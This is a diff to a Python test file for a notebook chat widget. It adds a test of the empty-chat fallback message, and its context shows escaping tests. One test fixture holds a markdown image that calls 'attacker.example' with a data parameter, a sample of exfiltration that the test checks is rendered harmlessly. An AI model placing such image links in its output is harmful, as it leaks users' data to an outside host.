@@ -426,6 +426,20 @@ async def test_fallbacks_and_repr() -> None:
     assert "**You:** Hi &lt;script" in chat._fallback_markdown()
 
 
+def test_an_empty_chat_says_how_to_open_it_where_the_chat_will_be() -> None:
+    # A notebook opened for the first time shows the saved static form until its cell
+    # runs: it says what to do, not the status line of a run long gone.
+    session, _ = make_session([answer("Hi.")])
+    chat = ChatView(session)
+    data, _ = chat._repr_mimebundle_()
+    assert "Run this cell to open the chat with helper." in data["text/html"]
+    assert data["text/markdown"] == "*Run this cell to open the chat with helper\\.*"
+    assert "ChatView(" not in data["text/html"] + data["text/markdown"]
+    assert data["text/plain"] == repr(chat)  # a text-only viewer still gets the repr
+    chat.lang = "zh-CN"
+    assert "运行此单元格以打开与 helper 的对话。" in chat._fallback_html()
+
+
 async def test_markdown_fallback_writes_model_text_as_text() -> None:
     # A static viewer renders this markdown: an image in the answer must not load there.
     session, _ = make_session([answer("Done.\n\n![](http://attacker.example/?d=k) <img src=x>")])
